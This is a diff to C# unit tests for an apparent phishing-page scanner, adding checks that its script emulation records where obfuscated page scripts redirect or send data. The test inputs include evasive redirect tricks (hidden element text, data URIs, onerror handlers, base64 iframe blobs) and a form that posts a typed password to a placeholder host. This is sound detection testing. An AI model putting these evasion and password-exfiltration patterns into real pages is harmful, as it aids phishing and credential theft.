@@ -8,7 +8,7 @@ namespace Lurewatch.Tests.Scripts.JavaScript;
 
 public sealed class PageScriptTests
 {
-    private static Analysis Scan(string page, string name = "page.html") => new MailScanner(new ScanOptions { Strict = true }).Scan(Encoding.UTF8.GetBytes(page), name);
+    private static Analysis Scan(string page, string name = "page.html") => new MailScanner(new ScanOptions { Strict = true, Limits = new AnalysisLimits { Time = TimeSpan.FromMinutes(1) } }).Scan(Encoding.UTF8.GetBytes(page), name);
 
     private static IReadOnlyList<ScriptAction> Actions(string page, string name = "page.html") => ((IHasActions)Scan(page, name).Root.Facts!).Actions;
 
@@ -33,6 +33,25 @@ public sealed class PageScriptTests
     [InlineData("var n = 0, i = setInterval(() => { if (++n == 5) { clearInterval(i); location = 'https://go.example/12' } }, 1000)", "https://go.example/12")]
     [InlineData("new Function('return this')()['eval'](unescape('location%3D%22https%3A//go.example/13%22'))", "https://go.example/13")]
     public void Where_a_script_leads_is_recorded(string script, string url) => ShouldFetch(Load(script), url);
+
+    [Theory]
+    [InlineData("<div id=box>https://name.example/1</div><script>location = box.innerText</script>", "https://name.example/1")]
+    [InlineData("<form name=f><input name=u value='https://name.example/2'></form><script>location = document.f.u.value</script>", "https://name.example/2")]
+    [InlineData("<script data-u='https://name.example/3'>location = document.currentScript.dataset.u</script>", "https://name.example/3")]
+    [InlineData("<script src='data:text/javascript,location=%22https://name.example/4%22'></script>", "https://name.example/4")]
+    [InlineData("<script type=module>const a = await fetch('https://name.example/5')</script>", "https://name.example/5")]
+    [InlineData("<script>location = (function () { /*https://name.example/6*/ }).toString().split('*')[1].replace('/h', 'h')</script>", "https://name.example/6")]
+    [InlineData("<img src=x onerror=\"location='https://name.example/7'\">", "https://name.example/7")]
+    [InlineData("<a href=\"javascript:location='https://name.example/8'\">x</a>", "https://name.example/8")]
+    [InlineData("<form onsubmit=\"fetch('https://name.example/9', {body: pw.value}); return false\"><input id=pw type=password></form>", "https://name.example/9")]
+    public void What_scripts_take_out_of_their_page_is_there(string page, string url) => ShouldFetch(page, url);
+
+    [Fact]
+    public void A_page_in_a_frame_runs_too()
+    {
+        var inner = Convert.ToBase64String("<script>location='https://frame.example/'</script>"u8);
+        Scan(Load($"var f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob([atob('{inner}')], {{ type: 'text/html' }})); document.body.append(f)")).Indicators.ShouldContain(indicator => indicator.Value == "https://frame.example/");
+    }
 
     [Fact]
     public void What_a_handler_in_an_attribute_does_is_recorded() => ShouldFetch("<body onload=\"go()\"><a href='#' onclick=\"location='https://b.example/'\">x</a><script>function go() { location = 'https://a.example/'; }</script>", "https://a.example/");
